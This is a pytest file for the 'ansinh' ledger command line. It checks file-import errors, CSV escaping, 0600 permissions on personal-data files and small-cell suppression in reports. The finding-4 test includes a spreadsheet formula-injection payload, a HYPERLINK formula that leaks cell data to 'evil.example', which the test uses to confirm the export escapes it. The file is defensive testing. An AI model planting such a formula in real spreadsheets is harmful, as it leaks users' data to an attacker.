"""Issue 14, findings 4, 6, 7 and 8: files in, files out, through the `ansinh` command line.

Every refused file is one `error:` line naming the file, the line and the field, exit 1, no
traceback and nothing booked (ledger/files.py); CSV for people escapes formula text; what
holds personal data is written 0600. Books are SQLite files; ids are generated, never real.
"""
from __future__ import annotations

import csv
import io
import os
import stat
from pathlib import Path

import orjson
import pytest
from typer.testing import CliRunner

from api.cli import app
from ledger.mapping import synthetic_national_id
from tests.ledger.factories import WORKER_A, event

runner = CliRunner()
EVENT_COLUMNS = ["event_id", "platform", "kind", "worker_id", "amount", "occurred_at"]
BIG = "x" * 200_000  # past the 128 KiB cell limit of every CSV reader


def invoke(*arguments: str):
    return runner.invoke(app, [str(argument) for argument in arguments])


def refused_in_one_line(result, *fragments: str) -> str:
    """Exit 1 with an `error:` message holding every fragment, and no traceback."""
    text = " ".join(result.stderr.split())
    assert result.exit_code == 1, (result.exit_code, text, result.exception)
    assert isinstance(result.exception, SystemExit), repr(result.exception)
    assert "Traceback" not in result.output + result.stderr
    assert text.startswith("error:") and text.count("error:") == 1, text
    squeezed = "".join(text.split())  # the console wraps long paths at its width, even mid-word
    for fragment in fragments:
        assert "".join(fragment.split()) in squeezed, (fragment, text)
    return text


def events_csv(path: Path, rows: list[list[object]], *, header: bool = True, bom: bool = False) -> Path:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    if header:
        writer.writerow(EVENT_COLUMNS)
    writer.writerows(rows)
    path.write_bytes((b"\xef\xbb\xbf" if bom else b"") + buffer.getvalue().encode("utf-8"))
    return path


def ride(event_id: str, worker: str = WORKER_A, amount: object = 100_000) -> list[object]:
    return [event_id, "grab", "ride", worker, amount, "2026-01-10T09:00:00+07:00"]


def booked(db: str) -> int:
    result = invoke("settlement", "2026-01", "--json", "--db", db)
    assert result.exit_code == 0, result.stderr
    return orjson.loads(result.stdout)["control_total_vnd"]


@pytest.fixture
def db(tmp_path) -> str:
    return f"sqlite:///{tmp_path / 'books.db'}"


# -- finding 6: tracebacks from files ---------------------------------------------------------------

def test_finding_6_an_events_csv_cell_over_128_kib_is_one_error_line_not_a_csv_traceback(tmp_path, db):
    file = events_csv(tmp_path / "events.csv", [ride("e-1"), ride(BIG)])
    refused_in_one_line(invoke("ingest", file, "--db", db), "events.csv: line 3: cell: longer than 131,072 characters")


def test_finding_6_a_tiers_csv_cell_over_128_kib_is_one_error_line_and_imports_nothing(tmp_path, db):
    file = tmp_path / "tiers.csv"
    file.write_text(f"national_id,tier,valid_from\n{WORKER_A},near_poor,2026-01\n{BIG},poor,2026-01\n")
    refused_in_one_line(invoke("tiers", "import", file, "--db", db), "tiers.csv: line 3: cell: longer than 131,072")


def test_finding_6_a_bank_statement_cell_over_128_kib_is_one_error_line_and_books_nothing(tmp_path, db):
    file = tmp_path / "bank.csv"
    file.write_text(f"date,amount_vnd,payer,reference,bank_ref\n2026-02-14,200000,grab,{BIG},VCB-1\n")
    refused_in_one_line(invoke("payments", "import", file, "--db", db), "line 2: cell: longer than 131,072")


def pack_text(effective_from: str) -> str:
    shipped = (Path(__file__).resolve().parents[2] / "rules" / "packs" / "vn-pilot.yaml").read_text()
    first = shipped.index("effective_from:")
    end = shipped.index("\n", first)
    return shipped[:first] + f"effective_from: {effective_from}" + shipped[end:]


def test_finding_6_a_pack_dated_february_30th_is_refused_naming_the_field(tmp_path, db):
    pack = tmp_path / "pack.yaml"
    pack.write_text(pack_text("2026-02-30"))
    refused_in_one_line(invoke("verify", "--pack", pack, "--db", db),
                        "pack.yaml: version 1.effective_from: must be a date YYYY-MM-DD")


def test_finding_6_a_pack_with_bytes_that_are_not_utf8_is_refused_naming_the_line(tmp_path, db):
    pack = tmp_path / "pack.yaml"
    text = pack_text("2026-01-01").encode("utf-8")
    pack.write_bytes(text.replace(b"\n", b"\n# caf\xe9\n", 1))
    refused_in_one_line(invoke("verify", "--pack", pack, "--db", db), "pack.yaml: line 2: is not UTF-8 (byte 0xe9)")


# -- finding 7: quietly wrong files -------------------------------------------------------------------

def test_finding_7_an_events_csv_with_a_byte_order_mark_books_every_row(tmp_path, db):
    file = events_csv(tmp_path / "excel.csv", [ride("e-1"), ride("e-2", amount=50_000)], bom=True)
    outcomes = tmp_path / "outcomes.ndjson"
    result = invoke("ingest", file, "--outcomes", outcomes, "--db", db)
    assert result.exit_code == 0, result.stderr
    assert [orjson.loads(line)["outcome"] for line in outcomes.read_bytes().splitlines()] == ["accepted", "accepted"]
    assert booked(db) == 3_000  # 2 % of 150,000 VND: the platform's dues (RULES.md §10)


def test_finding_7_an_events_csv_without_its_header_is_refused_naming_the_missing_columns(tmp_path, db):
    file = events_csv(tmp_path / "headless.csv", [ride("e-1"), ride("e-2")], header=False)
    text = refused_in_one_line(invoke("ingest", file, "--db", db),
                               "headless.csv: line 1: header: missing columns event_id, platform, kind, worker_id, "
                               "amount, occurred_at; unknown columns 'e-1', 'grab', 'ride', a 12-digit number (not "
                               "shown), '100000'")
    assert WORKER_A not in "".join(text.split())  # the first row is data: its citizen id is described, not quoted
    assert booked(db) == 0


def test_an_ingest_file_error_is_said_in_the_language_lang_names_and_in_english_without_it(tmp_path, db):
    file = events_csv(tmp_path / "headless.csv", [ride("e-1")], header=False)
    fragment = {"vi": "headless.csv: dòng 1: tiêu đề: thiếu các cột event_id,",
                "en": "headless.csv: line 1: header: missing columns event_id,"}
    said = {lang: refused_in_one_line(invoke("ingest", file, "--db", db, *(("--lang", lang) if lang else ())),
                                      fragment[lang or "en"]) for lang in ("vi", "en", None)}
    assert said["en"] == said[None]
    assert all(WORKER_A not in "".join(text.split()) for text in said.values())


def test_finding_7_full_width_digits_in_a_bank_amount_are_refused_not_booked_as_vnd(tmp_path, db):
    assert invoke("ingest", events_csv(tmp_path / "e.csv", [ride("e-1", amount=10_000_000)]), "--db", db).exit_code == 0
    file = tmp_path / "bank.csv"
    file.write_text("date,amount_vnd,payer,reference,bank_ref\n2026-02-14,１０００,grab,,VCB-1\n", encoding="utf-8")
    text = refused_in_one_line(invoke("payments", "import", file, "--db", db),
                               "line 2: amount_vnd must be a whole number")
    assert "'１０００'" in text
    account = orjson.loads(invoke("account", "grab", "--format", "json", "--db", db).stdout)
    assert account["payments_vnd"] == 0


def test_finding_7_full_width_digits_in_an_events_csv_amount_are_an_invalid_amount(tmp_path, db):
    file = events_csv(tmp_path / "events.csv", [ride("e-1", amount="１０００００")])
    outcomes = tmp_path / "outcomes.ndjson"
    assert invoke("ingest", file, "--outcomes", outcomes, "--db", db).exit_code == 0
    assert orjson.loads(outcomes.read_bytes())["outcome"] == "invalid_amount"


# -- finding 4: formula injection ---------------------------------------------------------------------

def test_finding_4_a_bank_memo_formula_is_text_in_the_insurers_account_csv_and_amounts_stay_numbers(tmp_path, db):
    assert invoke("ingest", events_csv(tmp_path / "e.csv", [ride("e-1", amount=10_000_000)]), "--db", db).exit_code == 0
    memo = '=HYPERLINK("http://evil.example/?"&A1,"pay")'
    bank = tmp_path / "bank.csv"
    with bank.open("w", newline="", encoding="utf-8") as out:
        csv.writer(out).writerows([["date", "amount_vnd", "payer", "reference", "bank_ref"],
                                   ["2026-02-14", "500000", "grab", memo, "VCB-1"]])
    assert invoke("payments", "import", bank, "--db", db).exit_code == 0
    result = invoke("account", "grab", "--format", "csv", "--db", db)
    assert result.exit_code == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    payment = next(row for row in rows if row["bank_ref"] == "VCB-1")
    assert payment["reference"] == "'" + memo  # shown as text by a spreadsheet, never run
    assert payment["credit_vnd"] == "500000"
    assert rows[-1]["balance_vnd"] == "-500000"  # a negative amount is a number, not escaped text
    json_lines = orjson.loads(invoke("account", "grab", "--format", "json", "--db", db).stdout)["lines"]
    assert memo in [line["reference"] for line in json_lines]  # machine formats carry the text unchanged


# -- finding 8: files holding personal data are owner-only ------------------------------------------

def test_finding_8_backups_exports_and_reports_are_written_0600(tmp_path, db):
    previous = os.umask(0o022)
    try:
        assert invoke("ingest", events_csv(tmp_path / "e.csv", [ride("e-1")]), "--outcomes", tmp_path / "outcomes",
                      "--db", db).exit_code == 0
        written = {"outcomes": tmp_path / "outcomes", "backup": tmp_path / "books.backup",
                   "beancount": tmp_path / "books.beancount", "settlement": tmp_path / "settlement.csv",
                   "authority": tmp_path / "authority.csv", "contributions": tmp_path / "contributions.csv"}
        commands = [("backup", written["backup"]),
                    ("export", "--parquet", tmp_path / "parquet", "--beancount", written["beancount"]),
                    ("settlement", "2026-01", "--output", written["settlement"]),
                    ("report", "authority", "2026-01", "--output", written["authority"]),
                    ("report", "contributions", "2026-01", "--output", written["contributions"])]
        for command in commands:
            result = invoke(*command, "--db", db)
            assert result.exit_code == 0, (command, result.stderr)
    finally:
        os.umask(previous)
    files = [*written.values(), *sorted((tmp_path / "parquet").iterdir())]
    assert len(files) > 8
    modes = {file.name: stat.S_IMODE(file.stat().st_mode) for file in files}
    assert set(modes.values()) == {0o600}, modes


# -- finding 8: small cells for the policy role ------------------------------------------------------

def generated_ids(province: str, count: int) -> list[str]:
    """Rule-valid made-up ids (born 2003) in one registration province."""
    return [f"{province}203{900_000 + n:06d}" for n in range(count)]


def test_finding_8_the_policy_role_sees_no_authority_cell_of_fewer_than_k_workers_and_the_same_total(caller):
    crowd, lone = generated_ids("079", 11), generated_ids("001", 1)[0]
    events = [event(f"c-{n}", worker_id=worker, occurred_at="2026-01-10T09:00:00+07:00")
              for n, worker in enumerate(crowd)]
    events.append(event("lone", worker_id=lone, occurred_at="2026-01-10T09:00:00+07:00"))
    assert caller.post_events(events).status_code == 200
    assert caller.client.put(f"/v1/households/{lone}", json={"tier": "near_poor", "valid_from": "2026-01"},
                             headers=caller.bearer("admin")).status_code == 200
    path = "/v1/months/2026-01/reports/authority"
    full = caller.client.get(path, headers=caller.bearer("insurer")).json()
    assert sorted((line["province"], line["tier"], line["workers"]) for line in full) == [
        ("001", "near_poor", 1), ("079", "other", 11)]  # the insurer keeps every cell

    policy = caller.client.get(path, headers=caller.bearer("policy")).json()
    # The lone near-poor worker is folded into an "other" line; with the crowd as the only other cell,
    # it is folded too (secondary suppression), else the lone cell is the total minus the crowd.
    assert [(line["province"], line["platform"], line["tier"], line["workers"]) for line in policy] == [
        ("*", "*", "*", 12)]
    assert sum(line["total_vnd"] for line in policy) == sum(line["total_vnd"] for line in full) == 24_000
    policy_csv = caller.client.get(path + "?format=csv", headers=caller.bearer("policy")).text
    assert "near_poor" not in policy_csv and ",1," not in policy_csv
